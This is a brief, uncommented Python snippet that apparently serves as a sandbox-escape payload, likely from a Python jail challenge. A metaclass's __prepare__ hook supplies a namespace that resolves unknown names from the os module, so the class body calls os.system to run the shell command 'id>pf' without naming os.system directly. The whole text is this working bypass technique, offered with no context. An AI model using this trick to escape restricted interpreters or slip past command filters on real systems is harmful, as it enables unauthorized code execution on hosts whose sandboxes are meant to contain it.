import os
class D(dict):
    def __missing__(self, k):
        return getattr(os, k, None) or dict.__missing__
class M(type):
    __prepare__ = classmethod(lambda *a: D())
class C(metaclass=M):
    system("id>pf")
